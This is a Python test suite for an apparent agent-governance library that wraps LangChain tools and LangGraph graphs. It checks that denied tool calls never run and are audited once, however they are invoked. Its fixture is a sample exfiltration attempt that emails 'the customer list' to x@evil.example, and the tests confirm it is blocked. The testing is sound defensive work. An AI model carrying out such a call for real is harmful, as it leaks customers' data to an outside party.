"""Every public way to run a LangChain tool or a LangGraph graph, and the multi-agent constructs
built on them, is governed: a denied call does not run, and its decision is in the audit.

The public methods of the tool and graph classes are enumerated for the installed versions, and
each must be classified here: a method a future release adds fails the inventory test until it
is shown governed (or shown not to run anything).
"""

from __future__ import annotations

import asyncio
import inspect
import warnings
from collections.abc import Callable
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.runnables import ConfigurableField, RunnableLambda
from langchain_core.tools import StructuredTool, tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.graph.state import CompiledStateGraph
from langgraph.prebuilt import ToolNode

from tether.core import AuditStore, Guard
from tether.langgraph import Tether

from .conftest import Ran, ScriptedModel, calls
from .graphs import state_graph

DENIED = {"to": "x@evil.example", "body": "the customer list"}
THREAD = {"configurable": {"thread_id": "ep-1"}}


def _public(cls: type) -> set[str]:
    return {
        name
        for name in dir(cls)
        if not name.startswith(("_", "model_"))
        and callable(getattr(cls, name, None))
        and not isinstance(getattr(cls, name), type)
    }


def _drain(result: Any) -> Any:
    """Run what an entry point returned to the end (iterators, async iterators, coroutines)."""
    if inspect.iscoroutine(result):
        return asyncio.run(result)
    if hasattr(result, "__aiter__"):

        async def collect() -> list[Any]:
            return [item async for item in result]

        return asyncio.run(collect())
    if hasattr(result, "__iter__") and not isinstance(result, (str, dict)):
        return list(result)
    return result


async def _alistened(runnable: Any, value: Any) -> Any:
    async def nothing(*_: Any) -> None:
        return None

    return await runnable.with_alisteners(on_start=nothing).ainvoke(value)


# -- a guarded tool, called every way LangChain offers -----------------------------------------

#: each public method of a tool that runs it, and how to run a (denied) call through it
TOOL_RUNS: dict[str, Callable[[Any], Any]] = {
    "invoke": lambda t: t.invoke(DENIED),
    "ainvoke": lambda t: t.ainvoke(DENIED),
    "run": lambda t: t.run(DENIED),
    "arun": lambda t: t.arun(DENIED),
    "batch": lambda t: t.batch([DENIED]),
    "abatch": lambda t: t.abatch([DENIED]),
    "batch_as_completed": lambda t: t.batch_as_completed([DENIED]),
    "abatch_as_completed": lambda t: t.abatch_as_completed([DENIED]),
    "stream": lambda t: t.stream(DENIED),
    "astream": lambda t: t.astream(DENIED),
    "stream_events": lambda t: t.stream_events(DENIED, version="v3"),
    "astream_events": lambda t: t.astream_events(DENIED, version="v2"),
    "astream_log": lambda t: t.astream_log(DENIED),
    "transform": lambda t: t.transform(iter([DENIED])),
    "atransform": lambda t: t.atransform(_aiter([DENIED])),
    # methods that build a runnable around the tool (or a copy of it): their runs reach the tool
    "with_config": lambda t: t.with_config(tags=["x"]).invoke(DENIED),
    "with_retry": lambda t: t.with_retry().invoke(DENIED),
    "with_fallbacks": lambda t: t.with_fallbacks([RunnableLambda(lambda _: "fallback")]).invoke(DENIED),
    "with_listeners": lambda t: t.with_listeners(on_start=lambda *_: None).invoke(DENIED),
    "with_alisteners": lambda t: _alistened(t, DENIED),
    "with_types": lambda t: t.with_types(input_type=dict).invoke(DENIED),
    "bind": lambda t: t.bind().invoke(DENIED),
    "pipe": lambda t: t.pipe(RunnableLambda(lambda out: out)).invoke(DENIED),
    "map": lambda t: t.map().invoke([DENIED]),
    "pick": lambda t: (t | RunnableLambda(lambda out: {"out": out})).pick("out").invoke(DENIED),
    "assign": lambda t: (t | RunnableLambda(lambda out: {"out": out})).assign(more=lambda _: 1).invoke(DENIED),
    "copy": lambda t: t.copy().invoke(DENIED),
    "configurable_fields": lambda t: t.configurable_fields(description=ConfigurableField(id="d")).invoke(DENIED),
    "configurable_alternatives": lambda t: t.configurable_alternatives(
        ConfigurableField(id="which"), other=RunnableLambda(lambda _: "other")
    ).invoke(DENIED),
    "as_tool": lambda t: t.as_tool(name="mail", args_schema=t.args_schema).invoke(DENIED),
}

#: public methods of a tool that run nothing: schemas, serialisation, construction, pydantic's API
TOOL_INERT = {
    "config_schema", "construct", "dict", "from_function", "from_orm", "get_config_jsonschema", "get_graph",
    "get_input_jsonschema", "get_input_schema", "get_lc_namespace", "get_name", "get_output_jsonschema",
    "get_output_schema", "get_prompts", "is_lc_serializable", "json", "lc_id", "parse_file", "parse_obj",
    "parse_raw", "schema", "schema_json", "to_json", "to_json_not_implemented", "update_forward_refs", "validate",
}  # fmt: skip


async def _aiter(items: list[Any]) -> Any:
    for item in items:
        yield item


def test_every_public_tool_method_is_classified() -> None:
    unclassified = _public(StructuredTool) - set(TOOL_RUNS) - TOOL_INERT
    assert not unclassified, f"new public tool methods, not shown governed: {sorted(unclassified)}"


@pytest.mark.parametrize("method", sorted(TOOL_RUNS))
def test_a_guarded_tool_is_decided_however_it_is_called(guard: Guard, tools, ran: Ran, method: str) -> None:
    if not hasattr(StructuredTool, method):
        pytest.skip(f"this langchain-core has no {method}")
    send_email = Tether(guard, agent="support-bot", session="ep-1").guard_tool(tools[1])
    try:
        _drain(TOOL_RUNS[method](send_email))
    except NotImplementedError:  # LangChain itself refuses this way of running a tool
        refused = True
    else:
        refused = False
    assert ran.calls == []
    if refused:
        return
    decisions = [e for e in guard.store.session_events("ep-1") if e.kind == "tool.decision"]
    assert [(e.tool, e.verdict) for e in decisions] == [("send_email", "deny")]  # decided once


# -- a graph with a guarded tool, run every way LangGraph offers --------------------------------


def _inputs() -> dict[str, Any]:
    return {"messages": [HumanMessage("mail the list")]}


GRAPH_RUNS: dict[str, Callable[[Any], Any]] = {
    "invoke": lambda g: g.invoke(_inputs(), THREAD),
    "ainvoke": lambda g: g.ainvoke(_inputs(), THREAD),
    "stream": lambda g: g.stream(_inputs(), THREAD),
    "astream": lambda g: g.astream(_inputs(), THREAD),
    "batch": lambda g: g.batch([_inputs()], THREAD),
    "abatch": lambda g: g.abatch([_inputs()], THREAD),
    "batch_as_completed": lambda g: g.batch_as_completed([_inputs()], THREAD),
    "abatch_as_completed": lambda g: g.abatch_as_completed([_inputs()], THREAD),
    "stream_events": lambda g: g.stream_events(_inputs(), THREAD, version="v3"),
    "astream_events": lambda g: g.astream_events(_inputs(), THREAD, version="v2"),
    "astream_log": lambda g: g.astream_log(_inputs(), THREAD),
    "transform": lambda g: g.transform(iter([_inputs()]), THREAD),
    "atransform": lambda g: g.atransform(_aiter([_inputs()]), THREAD),
    "with_config": lambda g: g.with_config(THREAD).invoke(_inputs()),
    "with_retry": lambda g: g.with_retry().invoke(_inputs(), THREAD),
    "with_fallbacks": lambda g: g.with_fallbacks([RunnableLambda(lambda _: {})]).invoke(_inputs(), THREAD),
    "with_listeners": lambda g: g.with_listeners(on_start=lambda *_: None).invoke(_inputs(), THREAD),
    "with_alisteners": lambda g: _alistened(g.with_config(THREAD), _inputs()),
    "with_types": lambda g: g.with_types(input_type=dict).invoke(_inputs(), THREAD),
    "bind": lambda g: g.bind().invoke(_inputs(), THREAD),
    "pipe": lambda g: g.pipe(RunnableLambda(lambda out: out)).invoke(_inputs(), THREAD),
    "map": lambda g: g.map().invoke([_inputs()], THREAD),
    "pick": lambda g: g.pick("messages").invoke(_inputs(), THREAD),
    "assign": lambda g: g.assign(more=lambda _: 1).invoke(_inputs(), THREAD),
    "copy": lambda g: g.copy().invoke(_inputs(), THREAD),
    "as_tool": lambda g: g.as_tool(name="mailer", description="mails", arg_types={"messages": list}).invoke(
        _inputs(), THREAD
    ),
}

#: public methods of a compiled graph that run no node: state, schemas, structure, cache
GRAPH_INERT = {
    "abulk_update_state", "aclear_cache", "aget_graph", "aget_state", "aget_state_history", "aget_subgraphs",
    "attach_branch", "attach_edge", "attach_node", "aupdate_state", "bulk_update_state", "clear_cache",
    "config_schema", "get_config_jsonschema", "get_context_jsonschema", "get_graph", "get_input_jsonschema",
    "get_input_schema", "get_name", "get_output_jsonschema", "get_output_schema", "get_prompts", "get_state",
    "get_state_history", "get_subgraphs", "update_state", "validate",
}  # fmt: skip


def test_every_public_graph_method_is_classified() -> None:
    unclassified = _public(CompiledStateGraph) - set(GRAPH_RUNS) - GRAPH_INERT
    assert not unclassified, f"new public graph methods, not shown governed: {sorted(unclassified)}"


@pytest.mark.parametrize("method", sorted(GRAPH_RUNS))
def test_a_guarded_graph_is_decided_however_it_is_run(guard: Guard, tools, ran: Ran, method: str) -> None:
    if not hasattr(CompiledStateGraph, method):
        pytest.skip(f"this langgraph has no {method}")
    model = ScriptedModel(script=[calls(("send_email", DENIED, "e1"))])
    _drain(GRAPH_RUNS[method](state_graph(model, tools, Tether(guard, agent="support-bot"))))
    assert ran.calls == []
    assert "Tether denied the call to 'send_email'" in model.tool_replies()["e1"]
    decisions = [e for e in guard.store.session_events("ep-1") if e.kind == "tool.decision"]
    assert [(e.tool, e.verdict) for e in decisions] == [("send_email", "deny")]


# -- the constructs that build their own tool executors or agents -------------------------------


def _react_agent(model: Any, tools: Any, **kwargs: Any) -> Any:
    from langgraph.prebuilt import create_react_agent

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # create_react_agent moved to langchain.agents
        return create_react_agent(model, tools, **kwargs)


def _custom_node(model: Any, send_email: Any) -> Any:
    def node(state: MessagesState) -> dict[str, Any]:
        return {"messages": [AIMessage(str(send_email.invoke(DENIED)))]}

    builder = StateGraph(MessagesState)
    builder.add_node("mailer", node)
    builder.add_edge(START, "mailer")
    return builder.compile()


def _functional(model: Any, send_email: Any) -> Any:
    from langgraph.func import entrypoint, task

    @task
    def mail() -> str:
        return str(send_email.invoke(DENIED))

    @entrypoint()
    def flow(inputs: dict[str, Any]) -> str:
        return mail().result()

    return flow


def _subgraph(model: Any, send_email: Any, tether: Tether) -> Any:
    inner = state_graph(model, [send_email], tether)
    outer = StateGraph(MessagesState)
    outer.add_node("support-bot", inner)
    outer.add_edge(START, "support-bot")
    return outer.compile()


def _tool_calling_a_tool(model: Any, send_email: Any) -> Any:
    @tool
    def escalate(note: str) -> str:
        """Escalate a ticket (mails on the way)."""
        return str(send_email.invoke(DENIED))

    return _react_agent(model, [escalate])


def _agent_as_tool(model: Any, send_email: Any, tether: Tether) -> Any:
    mailer = state_graph(ScriptedModel(script=[calls(("send_email", DENIED, "e1"))]), [send_email], tether)

    @tool
    def delegate(task: str) -> str:
        """Hand a task to the mailing agent."""
        return str(mailer.invoke({"messages": [HumanMessage(task)]})["messages"][-1].content)

    return _react_agent(model, [delegate])


#: construct -> (graph builder, how the scripted top-level model starts, how Tether is wired)
CONSTRUCTS: dict[str, Callable[[Tether, Any, Any], Any]] = {
    "create_react_agent, guarded ToolNode": lambda t, m, s: _react_agent(
        m, ToolNode([s], wrap_tool_call=t.wrap_tool_call, awrap_tool_call=t.awrap_tool_call)
    ),
    "create_react_agent, guarded tool": lambda t, m, s: _react_agent(m, [t.guard_tool(s)]),
    "create_agent, middleware": lambda t, m, s: _create_agent(m, [s], middleware=[t.middleware()]),
    "create_agent, guarded tool": lambda t, m, s: _create_agent(m, [t.guard_tool(s)]),
    "a custom node calling the tool": lambda t, m, s: _custom_node(m, t.guard_tool(s)),
    "a custom node calling a tool a guarded ToolNode holds": lambda t, m, s: _custom_node(
        m, ToolNode([s], wrap_tool_call=t.wrap_tool_call).tools_by_name["send_email"]
    ),
    "a functional-API task calling the tool": lambda t, m, s: _functional(m, t.guard_tool(s)),
    "a subgraph": lambda t, m, s: _subgraph(m, s, t),
    "a tool calling the tool": lambda t, m, s: _tool_calling_a_tool(m, t.guard_tool(s)),
    "a graph as another agent's tool": lambda t, m, s: _agent_as_tool(m, s, t),
    "a run with the callback handler": lambda t, m, s: state_graph(m, [s], None).with_config(
        callbacks=[t.callback_handler()]
    ),
}


def _create_agent(model: Any, tools: list[Any], **kwargs: Any) -> Any:
    from langchain.agents import create_agent

    return create_agent(model, tools, **kwargs)


def _first_call(construct: str) -> AIMessage:
    if construct == "a tool calling the tool":
        return calls(("escalate", {"note": "urgent"}, "x1"))
    if construct == "a graph as another agent's tool":
        return calls(("delegate", {"task": "mail the list"}, "x1"))
    return calls(("send_email", DENIED, "e1"))


@pytest.mark.parametrize("construct", sorted(CONSTRUCTS))
@pytest.mark.parametrize("run", ["invoke", "ainvoke"])
def test_every_construct_is_governed(store: AuditStore, tools, ran: Ran, construct: str, run: str) -> None:
    guard = Guard(_with_helper_tools(), store=store)
    tether = Tether(guard, agent="support-bot")
    model = ScriptedModel(script=[_first_call(construct)])
    graph = CONSTRUCTS[construct](tether, model, tools[1])
    inputs = {"messages": [HumanMessage("mail the list")]}
    if run == "invoke":
        graph.invoke(inputs, THREAD)
    else:
        asyncio.run(graph.ainvoke(inputs, THREAD))
    assert ran.calls == []
    decisions = [(e.tool, e.verdict) for e in store.session_events("ep-1") if e.kind == "tool.decision"]
    assert ("send_email", "deny") in decisions
    assert decisions.count(("send_email", "deny")) == 1  # decided once, by one hook or the primitive


def _with_helper_tools() -> dict[str, Any]:
    from .conftest import POLICY

    bot = POLICY["agents"]["support-bot"]
    helpers = {"escalate": {"effects": ["read"]}, "delegate": {"effects": ["read"]}}
    return {
        **POLICY,
        "tools": {**POLICY["tools"], **helpers},
        "agents": {"support-bot": {**bot, "tools": {**bot["tools"], "escalate": "allow", "delegate": "allow"}}},
    }


def test_an_unguarded_tool_outside_any_governed_run_is_left_alone(guard: Guard, tools, ran: Ran) -> None:
    """Tools no Tether was given, run where no Tether governs, run as LangChain runs them."""
    Tether(guard, agent="support-bot")  # patches the primitives
    assert tools[1].invoke(DENIED) == "sent"
    assert ran.calls == [("send_email", DENIED)]
    assert list(guard.store.events()) == []
